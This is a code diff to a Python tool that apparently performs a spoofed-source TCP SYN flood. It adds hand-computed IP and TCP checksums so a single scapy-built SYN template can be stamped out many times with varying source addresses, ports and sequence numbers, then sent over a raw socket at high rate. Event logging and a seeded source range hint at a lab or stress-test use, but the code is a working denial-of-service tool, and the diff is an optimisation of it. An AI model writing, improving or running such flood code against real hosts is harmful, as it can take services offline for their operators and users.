@@ -29,6 +29,7 @@ from __future__ import annotations
 import ipaddress
 import random
 import socket
+import struct
 import sys
 import time
 
@@ -145,12 +146,42 @@ def default_sources(own: str) -> str:
     return f"{net[128]}-{net[159]}"
 
 
-def _syn_bytes(src: str, dst: str, sport: int, dport: int, seq: int) -> bytes:
+def _syn_template(dst: str, dport: int) -> bytes:
     from scapy.layers.inet import IP, TCP
     # a SYN as Linux would send one (MSS option), so the server treats it like any client's
-    return bytes(IP(src=src, dst=dst, ttl=64) /
-                 TCP(sport=sport, dport=dport, flags="S", seq=seq, window=64240,
+    return bytes(IP(src="0.0.0.0", dst=dst, ttl=64) /
+                 TCP(sport=1024, dport=dport, flags="S", seq=0, window=64240,
                      options=[("MSS", 1460)]))
+
+
+def _checksum(data: bytes) -> int:
+    """The Internet checksum (RFC 1071): one's complement of the one's complement sum."""
+    if len(data) % 2:
+        data += b"\0"
+    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
+    while s >> 16:
+        s = (s & 0xFFFF) + (s >> 16)
+    return ~s & 0xFFFF
+
+
+def _syn_bytes(template: bytes, src: str, sport: int, seq: int) -> bytes:
+    """scapy built the SYN once; each copy gets its own source, port and sequence number,
+    and the checksums that cover them (the TCP one over the pseudo-header, RFC 9293
+    3.1; the IP header's the kernel fills in for a raw socket with IP_HDRINCL, but it is
+    set here too, so the bytes are a valid packet on their own)."""
+    pkt = bytearray(template)
+    ihl = (pkt[0] & 0x0F) * 4
+    pkt[12:16] = socket.inet_aton(src)
+    pkt[10:12] = b"\0\0"
+    pkt[10:12] = struct.pack("!H", _checksum(bytes(pkt[:ihl])))
+    tcp = pkt[ihl:]
+    struct.pack_into("!H", tcp, 0, sport)
+    struct.pack_into("!I", tcp, 4, seq)
+    tcp[16:18] = b"\0\0"
+    pseudo = pkt[12:20] + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
+    struct.pack_into("!H", tcp, 16, _checksum(bytes(pseudo + tcp)))
+    pkt[ihl:] = tcp
+    return bytes(pkt)
 
 
 def _flood(args, report, stop) -> int:
@@ -168,8 +199,9 @@ def _flood(args, report, stop) -> int:
     rng = random.Random(args.seed)
     srcs = p["sources"]
     # crafted before the first is sent, so the rate is the socket's, not scapy's
-    packets = [_syn_bytes(srcs[i % len(srcs)], p["destination"], rng.randrange(1024, 65536),
-                          args.port, rng.getrandbits(32)) for i in range(p["count"])]
+    template = _syn_template(p["destination"], args.port)
+    packets = [_syn_bytes(template, srcs[i % len(srcs)], rng.randrange(1024, 65536),
+                          rng.getrandbits(32)) for i in range(p["count"])]
     raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
     report.event("flood started", destination=p["destination"], port=args.port,
                  count=p["count"], rate_pps=p["rate_pps"], sources=len(srcs), host=own)
